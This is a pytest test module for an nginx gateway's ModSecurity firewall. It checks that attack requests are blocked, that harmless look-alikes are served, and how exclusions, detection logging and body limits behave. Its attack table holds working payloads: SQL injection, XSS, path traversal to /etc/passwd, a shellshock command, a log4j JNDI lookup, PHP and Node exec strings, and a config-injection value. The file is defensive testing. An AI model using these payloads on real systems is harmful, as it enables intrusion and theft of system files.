"""The firewall of a route on the real nginx with the real core rules: attacks, what only looks like one, exclusions."""

import asyncio
import hashlib
import json
import os
import re
import signal
from collections.abc import AsyncIterator
from dataclasses import replace
from typing import Any

import pytest
import pytest_asyncio
from yarl import URL

from coldchain.gateway.process import NginxProcess
from coldchain.model.app import HeaderChanges, RouteFilters
from coldchain.model.firewall import Firewall, FirewallExclusion
from coldchain.model.gateway_resource import ApiKeyDigest, Consumer
from coldchain.model.rotation import RouteRule, ServiceRotation
from coldchain.model.route_access import ApiKeyPlace, Authentication
from coldchain.testing.gateway_lab import PATIENCE_SECONDS, Answer, GatewayLab, endpoint, running_gateway
from coldchain.testing.ports import free_ports
from coldchain.testing.raw_application import RawApplication, answers, raw_application

pytestmark = pytest.mark.asyncio(loop_scope="module")

SQL = "1%27%20or%201%3D1--%20-"
JSON = {"Content-Type": "application/json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
BROWSER = {"Host": "shop.test", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", "Accept": "*/*"}
ATTACKS: dict[str, dict[str, Any]] = {
    "sqli in the query": {"path": f"/?q={SQL}"},
    "sqli in a form": {"method": "POST", "headers": FORM, "data": f"q={SQL}".encode()},
    "sqli in JSON": {"method": "PUT", "headers": JSON, "data": b'{"a": [{"b": "1 union select password from users"}]}'},
    "sqli in an unknown body": {
        "method": "POST",
        "headers": {"Content-Type": "text/x-own"},
        "data": b"1' union select password from users -- -",
    },
    "sqli in a cookie": {"headers": {"Cookie": "session=1' or 1=1-- -"}},
    "sqli in XML": {
        "method": "POST",
        "headers": {"Content-Type": "text/xml"},
        "data": b"<a><b>1' union select password from users -- -</b></a>",
    },
    "xss in the query": {"path": "/?q=%3Cscript%3Ealert(1)%3C/script%3E"},
    "xss, encoded twice": {"path": "/?q=%253Csvg%2520onload%253Dalert%25281%2529%253E"},
    "path traversal in the query": {"path": "/?file=../../../../etc/passwd"},
    "path traversal in the path": {"path": "/files/..%255c..%255c..%255cetc%255cpasswd"},
    "a file of the system": {"path": "/download/etc/shadow?f=/etc/shadow"},
    "shellshock": {"headers": {"Referer": "() { :;}; /bin/bash -c 'cat /etc/passwd'"}},
    "a command": {"path": "/?host=127.0.0.1%3Bcat%20/etc/passwd"},
    "a file from elsewhere": {"path": "/?page=http://198.51.100.7/evil.txt%3F"},
    "PHP": {"path": "/?x=%3C%3Fphp%20system(%27id%27)%3B%3F%3E"},
    "JavaScript of a server": {"path": "/?x=require(%27child_process%27).exec(%27id%27)"},
    "a lookup of log4j": {"path": "/?x=%24%7Bjndi:ldap://198.51.100.7/a%7D"},
    "a class of Java": {"path": "/?x=java.lang.Runtime.getRuntime().exec(%27id%27)"},
    "a scanner": {"headers": {"User-Agent": "sqlmap/1.7 (https://sqlmap.org)"}},
    "a split answer": {"path": "/?next=%0d%0aSet-Cookie:%20session%3Dx"},
    "malformed JSON": {"method": "POST", "headers": JSON, "data": b'{"a": "b", "c":'},
    "a method that is not allowed": {"method": "PROPFIND"},
}
HARMLESS: dict[str, dict[str, Any]] = {
    "a search": {"path": "/?q=milk%20and%20honey&page=2&sort=price"},
    "a name": {"path": "/?name=Se%C3%A1n%20O%27Brien"},
    "Chinese": {"path": "/?q=%E7%94%9F%E9%B2%9C%E9%85%8D%E9%80%81"},
    "an article": {
        "method": "PUT",
        "headers": JSON,
        "data": json.dumps(
            {"text": "We select the best of what farmers (all of them) bring: it's fresh, from 5 o'clock on. " * 30}
        ).encode(),
    },
    "a form": {"method": "POST", "headers": FORM, "data": b"street=Main+St.+7%2C+%233&mail=a%40b.test"},
    "PATCH": {"method": "PATCH", "headers": JSON, "data": b'{"count": 3, "tags": ["a", "b"]}'},
    "DELETE": {"method": "DELETE", "path": "/cart/7"},
    "an address": {"path": "/?next=https://shop.test/cart/7"},
    "numbers": {"method": "POST", "headers": JSON, "data": json.dumps({"points": list(range(400))}).encode()},
}


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def lab() -> AsyncIterator[GatewayLab]:
    async with running_gateway(worker_processes=1) as lab:
        yield lab


@pytest_asyncio.fixture(loop_scope="module")
async def app() -> AsyncIterator[RawApplication]:
    async with raw_application(answers) as application:
        yield application


def guarded(path: str = "/", filters: RouteFilters | None = None, name: str = "", **fields: Any) -> RouteRule:
    made = RouteFilters(firewall=Firewall(**fields)) if filters is None else filters
    return RouteRule(path=path, service="shop", filters=made, name=name or path)


async def push(lab: GatewayLab, app: RawApplication, *rules: RouteRule) -> None:
    await lab.push({"shop": ServiceRotation(endpoints=(endpoint("a", app.port),))}, {"*": rules})


async def ask(
    lab: GatewayLab, method: str = "GET", path: str = "/", headers: dict[str, str] | None = None, data: Any = None
) -> Answer:
    """As it is written: no client puts the address into another form."""
    url = URL(f"{lab.url}{path}", encoded=True)
    async with lab.consumer.request(method, url, headers=BROWSER | (headers or {}), data=data) as answer:
        return Answer(answer.status, dict(answer.headers), await answer.read())


async def told(lab: GatewayLab, request_id: str) -> dict[str, Any]:
    """The line of the firewall's log about a request; it comes at most a second late."""
    for _ in range(int(PATIENCE_SECONDS / 0.05)):
        for line in lab.settings.firewall_log_file.read_text().splitlines():
            entry: dict[str, Any] = json.loads(line)
            if entry["requestId"] == request_id:
                return entry
        await asyncio.sleep(0.05)
    raise AssertionError(f"no line about {request_id}")


async def found(lab: GatewayLab, name: str, wanted: dict[str, int]) -> None:
    """Waits until this is what was found on the route of that name; the counts come within a second."""
    counts: dict[str, int] = {}
    for _ in range(int(PATIENCE_SECONDS / 0.05)):
        async with lab.consumer.get(f"http://{lab.settings.status_listen}/metrics") as answer:
            line = rf'firewall_findings_total{{service="shop",route="{name}",found="(\w+)",action="(\w+)"}} (\d+)'
            lines = re.findall(line, await answer.text())
        counts = {f"{kind} {action}": int(count) for kind, action, count in lines}
        if counts == wanted:
            return
        await asyncio.sleep(0.05)
    raise AssertionError(f"found {counts}, not {wanted}")


async def test_attacks_are_refused_and_reach_no_instance(lab: GatewayLab, app: RawApplication) -> None:
    await push(lab, app, guarded(name="attacks"))
    answered = {name: await ask(lab, **attack) for name, attack in ATTACKS.items()}
    assert {name: answer.status for name, answer in answered.items()} == dict.fromkeys(ATTACKS, 403)
    assert {answer.text for answer in answered.values()} == {'{"message": "the request looks like an attack"}\n'}
    assert app.connections == 0
    await found(lab, "attacks", {"attack blocked": len(ATTACKS)})


async def test_what_only_looks_like_an_attack_is_served(lab: GatewayLab, app: RawApplication) -> None:
    await push(lab, app, guarded())
    answered = {name: (await ask(lab, **request)).status for name, request in HARMLESS.items()}
    assert answered == dict.fromkeys(HARMLESS, 200)
    assert len(app.requests) == len(HARMLESS)


async def test_a_route_that_does_not_ask_is_not_guarded(lab: GatewayLab, app: RawApplication) -> None:
    await push(lab, app, guarded("/off", mode="off"), RouteRule(path="/", service="shop"))
    for path in (f"/?q={SQL}", f"/off?q={SQL}"):
        assert (await ask(lab, path=path)).status == 200


async def test_detection_lets_pass_and_tells_without_what_was_sent(lab: GatewayLab, app: RawApplication) -> None:
    await push(lab, app, guarded("/shop", mode="detect"), guarded())
    headers = FORM | {"Authorization": "Bearer hidden-1"}
    for path, action, status in (("/shop/x", "detected", 200), ("/else", "blocked", 403)):
        request_id = f"firewall-{action}"
        answer = await ask(lab, "POST", f"{path}?token=hidden-2", headers | {"X-Request-Id": request_id}, f"q={SQL}")
        assert answer.status == status
        line = await told(lab, request_id)
        assert isinstance(line.pop("time"), float)
        assert line == {
            "requestId": request_id,
            "client": "127.0.0.1",
            "consumer": "",
            "method": "POST",
            "host": "shop.test",
            "path": path,
            "service": "shop",
            "route": "/shop" if status == 200 else "/",
            "action": action,
            "reason": "the request looks like an attack",
            "score": 5,
            "threshold": 5,
            "rules": [942100],
            "targets": ["ARGS:q"],
            "malformedBody": False,
        }
    assert [request.target for request in app.requests] == ["/shop/x?token=hidden-2"]
    assert app.requests[0].body == f"q={SQL}".encode()
    await found(lab, "/shop", {"attack detected": 1})
    for file in (lab.settings.firewall_log_file, lab.settings.error_log_file):
        assert "hidden" not in file.read_text()
    assert (await lab.logged("firewall-blocked"))["reason"] == "the request looks like an attack"


async def test_exclusions_hold_for_what_they_name_and_for_nothing_else(lab: GatewayLab, app: RawApplication) -> None:
    excluded = FirewallExclusion
    await push(
        lab,
        app,
        guarded("/rule", exclusions=(excluded(rule=942100),)),
        guarded("/parameter", exclusions=(excluded(rule=942100, parameter="q"),)),
        guarded("/json", exclusions=(excluded(rule=942100, parameter="json.text.sql-1"),)),
        guarded("/cookie", exclusions=(excluded(rule=942100, cookie="last.search"),)),
        guarded("/header", exclusions=(excluded(rule=932170, header="X-Template"),)),
        guarded(),
    )
    shellshock = "() { :;}; x"
    document = json.dumps({"text": {"sql-1": "1' or 1=1-- -"}}).encode()
    asked: list[tuple[dict[str, Any], int]] = [
        ({"path": f"/rule?q={SQL}"}, 200),
        ({"path": f"/rule?q={SQL}&x=../../etc/passwd"}, 403),
        ({"path": f"/parameter?q={SQL}"}, 200),
        ({"path": f"/parameter?q={SQL}&r={SQL}"}, 403),
        ({"path": f"/parameter?q={SQL}", "headers": {"Cookie": "q=1' or 1=1-- -"}}, 403),
        ({"method": "POST", "path": "/json", "headers": JSON, "data": document}, 200),
        ({"method": "POST", "path": "/json", "headers": JSON, "data": document.replace(b"sql-1", b"sql-2")}, 403),
        ({"path": "/cookie", "headers": {"Cookie": "last.search=1' or 1=1-- -"}}, 200),
        ({"path": "/cookie", "headers": {"Cookie": "other=1' or 1=1-- -"}}, 403),
        ({"path": "/header", "headers": {"x-template": shellshock}}, 200),
        ({"path": "/header", "headers": {"X-Other": shellshock}}, 403),
        ({"path": f"/else?q={SQL}"}, 403),
    ]
    assert [(await ask(lab, **request)).status for request, _ in asked] == [status for _, status in asked]


async def test_sets_scores_and_methods_are_the_routes_own(lab: GatewayLab, app: RawApplication) -> None:
    await push(
        lab,
        app,
        guarded("/xss", sets=("xss",)),
        guarded("/high", threshold=6),
        guarded("/strict", paranoia=4),
        guarded("/methods", methods=("GET", "PROPFIND")),
    )
    asked = {
        ("GET", f"/xss?q={SQL}"): 200,
        ("GET", "/xss?q=%3Cscript%3Ealert(1)%3C/script%3E"): 403,
        ("GET", f"/high?q={SQL}"): 200,
        ("GET", "/high?q=%3Cscript%3Ealert(1)%3C/script%3E"): 403,
        ("GET", "/strict?q=a%27b%22"): 403,
        ("GET", "/high?q=a%27b%22"): 200,
        ("PROPFIND", "/methods"): 200,
        ("POST", "/methods"): 403,
    }
    assert {one: (await ask(lab, *one)).status for one in asked} == asked


async def test_what_is_not_looked_at_whole_does_not_get_through(lab: GatewayLab, app: RawApplication) -> None:
    told, rest = Firewall(mode="detect", inspected_bytes_max=100), Firewall(inspected_bytes_max=20_000)
    await push(
        lab,
        app,
        guarded("/told", RouteFilters(firewall=told), name="long, told"),
        guarded("/", RouteFilters(firewall=rest), name="long"),
    )

    async def chunks(count: int) -> AsyncIterator[bytes]:
        for _ in range(count):
            yield b"x" * 1000

    plain = {"Content-Type": "text/plain"}
    many = "&".join(f"a{number}=1" for number in range(600))
    asked: list[tuple[str, Any, dict[str, str], int]] = [
        ("/", b"x" * 20_000, FORM, 200),
        ("/", b"x" * 20_001, FORM, 413),
        ("/", chunks(20), FORM, 200),
        ("/", chunks(21), FORM, 413),
        ("/", b"x" * 19_000 + b"&q=" + SQL.encode(), FORM, 403),
        ("/", b"x" * 19_000 + b"<script>alert(1)</script>", plain, 403),
        ("/", many.encode(), FORM, 413),
        ("/", json.dumps([1] * 600).encode(), JSON, 413),
        ("/told", b"x" * 101, FORM, 200),
    ]
    assert [(await ask(lab, "POST", path, headers, data)).status for path, data, headers, _ in asked] == [
        status for *_, status in asked
    ]
    assert (await ask(lab, path=f"/?{many}")).status == 413
    assert len(app.requests) == 3
    await found(lab, "long", {"too_much blocked": 5, "attack blocked": 2})
    await found(lab, "long, told", {"too_much detected": 1})


async def test_no_request_holds_up_a_worker(lab: GatewayLab, app: RawApplication) -> None:
    """Without a limit of the core rules' regular expressions each of these takes from ten seconds to minutes."""
    await push(lab, app, guarded())
    for body in (b"<" * 16_000, b"<!--" * 4000, b"{" * 64 + b"'" * 15_000, b"{" * 16 + b" " * 15_000):
        async with asyncio.timeout(PATIENCE_SECONDS):
            assert (await ask(lab, "POST", "/", FORM, b"q=" + body)).status in (200, 403)


async def test_other_filters_balancing_and_tries_are_as_without_it(lab: GatewayLab, app: RawApplication) -> None:
    """The firewall looks at what the consumer sent; a request that no instance got is still tried elsewhere."""
    changes = RouteFilters(
        firewall=Firewall(mode="detect"),
        rewrite="/inner",
        response_headers=HeaderChanges(set={"X-Added": "1"}),
        body_bytes_max=50,
    )
    closed = free_ports(1)[0]
    endpoints = (endpoint("closed", closed), endpoint("a", app.port))
    await lab.push({"shop": ServiceRotation(endpoints=endpoints)}, {"*": (guarded("/outer", changes),)})
    for number in range(3):
        headers = FORM | {"X-Request-Id": f"both-{number}"}
        answer = await ask(lab, "POST", "/outer/x", headers, f"q={SQL}")
        assert (answer.status, answer.headers["X-Added"]) == (200, "1")
    assert [(await told(lab, f"both-{number}"))["path"] for number in range(3)] == ["/outer/x"] * 3
    assert [(request.target, request.body) for request in app.requests] == [("/inner/x", f"q={SQL}".encode())] * 3
    assert (await ask(lab, "POST", "/outer", FORM, b"x" * 51)).status == 413
    await lab.in_flight({})


async def test_who_is_not_let_in_is_not_looked_at(lab: GatewayLab, app: RawApplication) -> None:
    filters = RouteFilters(firewall=Firewall(), authentication=Authentication(api_key=ApiKeyPlace(header="X-Api-Key")))
    anna = Consumer(name="anna", api_keys=(ApiKeyDigest(digest=hashlib.sha256(b"right").hexdigest()),))
    services = {"shop": ServiceRotation(endpoints=(endpoint("a", app.port),))}
    await lab.push(services, {"*": (guarded("/", filters, name="known"),)}, (anna,))
    attack = f"/?q={SQL}"
    assert (await ask(lab, path=attack, headers={"X-Api-Key": "wrong"})).status == 401
    headers = {"X-Api-Key": "right", "X-Request-Id": "of-anna"}
    assert (await ask(lab, path=attack, headers=headers)).status == 403
    assert (await told(lab, "of-anna"))["consumer"] == "anna"
    await found(lab, "known", {"attack blocked": 1})


async def test_a_firewall_that_is_none_is_refused_and_what_it_names_gets_nowhere(
    lab: GatewayLab, app: RawApplication
) -> None:
    """The controller never sends such a thing; should somebody, no other route suffers."""
    injected = FirewallExclusion(rule=942100, parameter='q"\nSecRuleEngine Off\n#')
    await push(
        lab, app, guarded("/wrong", exclusions=(injected,)), guarded("/told", mode="detect", methods=("'",)), guarded()
    )
    asked = {"/wrong": 503, "/told": 200, "/": 200, f"/?q={SQL}": 403}
    assert {path: (await ask(lab, path=path)).status for path in asked} == asked
    await found(lab, "/wrong", {"missing blocked": 1})
    assert "a route's firewall cannot be used" in lab.settings.error_log_file.read_text()


async def test_a_new_worker_and_a_reload_have_the_rules(app: RawApplication) -> None:
    async with running_gateway(worker_processes=1) as lab:
        await push(lab, app, guarded())
        killed = (await lab.state()).workers[0].pid
        os.kill(killed, signal.SIGKILL)
        async with asyncio.timeout(PATIENCE_SECONDS):
            while not (state := await lab.process.state()) or [one.pid for one in state.workers] in ([], [killed]):
                await asyncio.sleep(0.01)
        assert [(await ask(lab, path=path)).status for path in ("/", f"/?q={SQL}")] == [200, 403]
        lab.process = NginxProcess(replace(lab.settings, access_log=False))
        assert await lab.process.start_or_adopt() == "reloaded"
        assert [(await ask(lab, path=path)).status for path in ("/", f"/?q={SQL}")] == [200, 403]


async def test_without_modsecurity_only_routes_that_ask_for_it_are_refused() -> None:
    async with running_gateway(worker_processes=1, firewall=False) as lab, raw_application(answers) as app:
        await push(lab, app, guarded("/guarded"), guarded("/told", mode="detect"), RouteRule(path="/", service="shop"))
        asked = {"/guarded": 503, "/told": 200, "/": 200}
        answered = {path: await ask(lab, path=path) for path in asked}
        assert {path: answer.status for path, answer in answered.items()} == asked
        assert "not installed at the gateway" in answered["/guarded"].text
        assert "apt-get install libmodsecurity3" in lab.settings.error_log_file.read_text()
